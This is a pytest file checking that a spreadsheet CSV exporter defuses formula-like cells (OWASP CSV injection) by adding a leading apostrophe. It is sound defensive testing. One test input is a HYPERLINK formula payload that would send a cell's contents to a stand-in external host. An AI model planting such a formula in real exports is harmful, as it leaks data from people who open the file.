"""Spreadsheet cells that could run as formulas are exported as text (OWASP CSV injection)."""

import csv
import io
from datetime import date

import pytest

from core.spreadsheets import csv_writer, safe_cell


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        (
            '=HYPERLINK("http://x.example/?d="&A2;"Klik")',
            '\'=HYPERLINK("http://x.example/?d="&A2;"Klik")',
        ),
        ("+45 33 66 33 66 kontaktes", "'+45 33 66 33 66 kontaktes"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Almindelig tekst = ok", "Almindelig tekst = ok"),
        ("", ""),
        (None, ""),
        (42, 42),
        (date(2027, 3, 10), date(2027, 3, 10)),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(typed, exported):
    assert safe_cell(typed) == exported


def test_the_csv_writer_neutralises_every_cell_and_reads_back_as_typed_plus_apostrophe():
    stream = io.StringIO()
    csv_writer(stream).writerow(["=1+1", 'Tom\'s "plan"; & co', "+45"])

    assert list(csv.reader(io.StringIO(stream.getvalue()), delimiter=";")) == [
        ["'=1+1", 'Tom\'s "plan"; & co', "'+45"]
    ]
